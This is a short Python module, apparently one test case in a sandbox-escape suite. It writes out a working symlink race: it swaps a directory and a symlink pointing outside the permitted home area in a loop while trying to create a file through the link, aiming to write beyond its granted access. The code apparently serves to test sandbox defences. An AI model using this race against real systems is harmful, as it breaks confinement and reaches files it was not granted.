"""A directory that becomes a symbolic link."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    os.symlink(payload.ROOT + "/out", HOME + "/other")
    link = HOME + "/link"

    def turn():
        os.rename(HOME + "/free", link)
        os.rename(link, HOME + "/free")
        os.rename(HOME + "/other", link)
        os.rename(link, HOME + "/other")

    payload.race(turn, lambda: open(link + "/evil", "w").close())
